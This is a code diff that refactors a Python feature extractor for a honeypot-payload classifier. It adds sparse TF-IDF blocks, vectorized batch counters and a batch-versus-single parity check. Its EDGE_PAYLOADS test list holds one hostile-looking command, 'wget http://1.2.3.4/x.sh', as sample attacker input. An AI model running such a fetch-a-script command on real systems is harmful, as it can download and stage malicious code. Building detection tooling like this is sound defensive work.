@@ -1,17 +1,32 @@
 import re
 import math
-from typing import List
+from typing import List, Tuple
 from datetime import datetime
-import joblib
 import os
 import numpy as np
+import scipy.sparse as sp
 
 # ------------------------------
-# Load TF-IDF Vectorizer (Colab)
+# Default TF-IDF Vectorizer (Colab)
 # ------------------------------
+# Loaded on first use, compact export preferred (numpy_tfidf.py). The
+# service always passes its model set's vectorizer, so it never loads this one.
 TFIDF_PATH = os.path.join("model", "tfidf_vectorizer_colab.pkl")
-_tfidf_vec = joblib.load(TFIDF_PATH) if os.path.exists(TFIDF_PATH) else None
-_tfidf_k = len(_tfidf_vec.get_feature_names_out()) if _tfidf_vec else 0
+TFIDF_NUMPY_PATH = os.path.join("model", "tfidf_vectorizer_colab.npz")
+_tfidf_vec = None
+
+def default_vectorizer():
+    global _tfidf_vec
+    if _tfidf_vec is None and (os.path.exists(TFIDF_PATH) or os.path.exists(TFIDF_NUMPY_PATH)):
+        from model_store import load_tfidf_vectorizer
+        _tfidf_vec, _ = load_tfidf_vectorizer(TFIDF_NUMPY_PATH, TFIDF_PATH)
+    return _tfidf_vec
+
+def _n_terms(vectorizer) -> int:
+    # idf_ has one entry per column for both sklearn's and the compact vectorizer
+    return len(vectorizer.idf_) if vectorizer is not None else 0
+
+NUMERIC_DIM = 3  # payload_len, num_digits, num_words
 
 # ------------------------------
 # Feature Utilities
@@ -23,32 +38,157 @@ def count_words(s: str) -> int:
     return len(s.split())
 
 # ------------------------------
-# Final Feature Extractor
+# Sparse Feature Blocks
 # ------------------------------
-def extract_features(record: dict) -> List[float]:
-    payload = (record.get("payload") or "")
-    event = (record.get("event") or "")
-    text = f"{event} {payload}".lower()
-
+def numeric_block(payload: str) -> np.ndarray:
     # ✅ Only these 3 numeric features
-    numeric = [
-        float(len(payload)),
-        float(count_digits(payload)),
-        float(count_words(payload)),
-    ]
+    return np.array([[
+        len(payload),
+        count_digits(payload),
+        count_words(payload),
+    ]], dtype=np.float64)
+
+def tfidf_block(payload: str, vectorizer=None) -> sp.csr_matrix:
+    if vectorizer is None:
+        vectorizer = default_vectorizer()
+    k = _n_terms(vectorizer)
 
     # ✅ TF-IDF features
-    tfidf = []
-    if _tfidf_vec:
+    tfidf = sp.csr_matrix((1, k))
+    if vectorizer:
         try:
-            vec = _tfidf_vec.transform([payload])
-            arr = vec.toarray().reshape(-1)
-            if len(arr) < _tfidf_k:
-                arr = np.concatenate([arr, np.zeros(_tfidf_k - len(arr))])
-            else:
-                arr = arr[:_tfidf_k]
-            tfidf = arr.tolist()
+            tfidf = vectorizer.transform([payload]).tocsr()
+            if tfidf.shape[1] != k:
+                tfidf.resize((1, k))
         except:
-            tfidf = [0.0] * _tfidf_k
+            tfidf = sp.csr_matrix((1, k))
+    return tfidf
+
+def extract_feature_blocks(record: dict, vectorizer=None) -> Tuple[np.ndarray, sp.csr_matrix]:
+    """Numeric block (1, NUMERIC_DIM) and TF-IDF block (1, k) as CSR.
+
+    Nothing is densified here; callers stack rows and call stack_dense once.
+    `vectorizer` overrides the module-level one (the service passes the
+    vectorizer of its active model set).
+    """
+    payload = (record.get("payload") or "")
+    return numeric_block(payload), tfidf_block(payload, vectorizer)
+
+def stack_dense(X_num: np.ndarray, X_tfidf: sp.csr_matrix, dtype=np.float32) -> np.ndarray:
+    """Single dense (n, NUMERIC_DIM + k) matrix, TF-IDF scattered in place."""
+    n = X_num.shape[0]
+    X = np.zeros((n, X_num.shape[1] + X_tfidf.shape[1]), dtype=dtype)
+    X[:, :X_num.shape[1]] = X_num
+    rows = np.repeat(np.arange(n), np.diff(X_tfidf.indptr))
+    X[rows, X_num.shape[1] + X_tfidf.indices] = X_tfidf.data
+    return X
+
+# ------------------------------
+# Batch Feature Blocks
+# ------------------------------
+# str.isdigit / str.isspace for ASCII; other code points are looked up per
+# distinct value, so the result matches the per-record functions exactly.
+_ASCII_DIGIT = np.array([chr(c).isdigit() for c in range(128)])
+_ASCII_SPACE = np.array([chr(c).isspace() for c in range(128)])
+
+def _char_classes(cps: np.ndarray) -> Tuple[np.ndarray, np.ndarray]:
+    ascii_cps = np.minimum(cps, 127)
+    digit, space = _ASCII_DIGIT[ascii_cps], _ASCII_SPACE[ascii_cps]
+    wide = cps > 127
+    if wide.any():
+        values, inverse = np.unique(cps[wide], return_inverse=True)
+        chars = [chr(c) for c in values]
+        digit[wide] = np.array([c.isdigit() for c in chars])[inverse]
+        space[wide] = np.array([c.isspace() for c in chars])[inverse]
+    return digit, space
+
+def numeric_blocks(payloads: List[str]) -> np.ndarray:
+    """numeric_block for many payloads at once, shape (n, NUMERIC_DIM).
+
+    All payloads are laid out as one UTF-32 code point array; digits and
+    word starts (non-space after space or a payload boundary) are counted
+    per payload from cumulative sums.
+    """
+    n = len(payloads)
+    lengths = np.fromiter(map(len, payloads), dtype=np.int64, count=n)
+    ends = np.cumsum(lengths)
+    starts = ends - lengths
+    # surrogatepass: JSON may carry lone surrogates, they are just non-digits
+    cps = np.frombuffer("".join(payloads).encode("utf-32-le", "surrogatepass"), dtype=np.uint32)
+    digit, space = _char_classes(cps)
+
+    word = ~space
+    word_start = word.copy()
+    word_start[1:] &= space[:-1]
+    word_start[starts[lengths > 0]] = word[starts[lengths > 0]]
+
+    def _per_payload(flags: np.ndarray) -> np.ndarray:
+        totals = np.concatenate(([0], np.cumsum(flags, dtype=np.int64)))
+        return totals[ends] - totals[starts]
+
+    return np.column_stack([lengths, _per_payload(digit), _per_payload(word_start)]).astype(np.float64)
+
+def tfidf_blocks(payloads: List[str], vectorizer=None) -> sp.csr_matrix:
+    """tfidf_block for many payloads with a single transform, shape (n, k)."""
+    if vectorizer is None:
+        vectorizer = default_vectorizer()
+    k = _n_terms(vectorizer)
+
+    n = len(payloads)
+    if not vectorizer:
+        return sp.csr_matrix((n, k))
+    try:
+        tfidf = vectorizer.transform(payloads).tocsr()
+        if tfidf.shape[1] != k:
+            tfidf.resize((n, k))
+        return tfidf
+    except:
+        # Same per-row fallback as tfidf_block: one bad payload zeroes only its row
+        return sp.vstack([tfidf_block(p, vectorizer) for p in payloads], format="csr")
+
+def extract_feature_blocks_batch(records: List[dict], vectorizer=None) -> Tuple[np.ndarray, sp.csr_matrix]:
+    """extract_feature_blocks for a list of records: (n, NUMERIC_DIM) and (n, k) CSR."""
+    payloads = [(r.get("payload") or "") for r in records]
+    return numeric_blocks(payloads), tfidf_blocks(payloads, vectorizer)
+
+# ------------------------------
+# Final Feature Extractor
+# ------------------------------
+def extract_features(record: dict) -> List[float]:
+    numeric, tfidf = extract_feature_blocks(record)
+    return numeric[0].tolist() + tfidf.toarray().reshape(-1).tolist()
+
+def extract_features_batch(records: List[dict], vectorizer=None) -> List[List[float]]:
+    """[extract_features(r) for r in records], computed a batch at a time."""
+    X_num, X_tfidf = extract_feature_blocks_batch(records, vectorizer)
+    return stack_dense(X_num, X_tfidf, dtype=np.float64).tolist()
+
+def check_batch_parity(records: List[dict]) -> int:
+    """Number of records where extract_features_batch != extract_features."""
+    batch = extract_features_batch(records)
+    return sum(b != extract_features(r) for r, b in zip(records, batch))
+
+# Payloads that stress the vectorized counters: empty, whitespace-only,
+# non-ASCII digits/spaces, NULs, astral characters, lone surrogates
+EDGE_PAYLOADS = [
+    "", " ", "\t\n", "a", "  lead", "trail  ", "x\x00", "\x00", "12 34 56",
+    "٣٤ ²³ ⅷ", "a　b c\x1cd", "𝟘𝟙 emoji 😀 1", "\ud800 lone 7", "wget http://1.2.3.4/x.sh",
+]
+
+if __name__ == "__main__":
+    import argparse
+    from cowrie import read_records
+
+    parser = argparse.ArgumentParser(description="Check extract_features_batch against extract_features")
+    default_data = os.path.join("..", "mock-data", "cowrie.json")
+    parser.add_argument("--check", nargs="?", const=default_data, default=default_data,
+                        help="Cowrie or /predict-shaped JSONL (default: %(const)s)")
+    args = parser.parse_args()
 
-    return numeric + tfidf
+    records = list(read_records(args.check))
+    records += [{"event": "edge", "payload": p} for p in EDGE_PAYLOADS]
+    mismatches = check_batch_parity(records)
+    status = "✅" if mismatches == 0 else "❌"
+    print(f"{status} {mismatches} of {len(records)} records differ between batch and per-record features")
+    if mismatches:
+        raise SystemExit(1)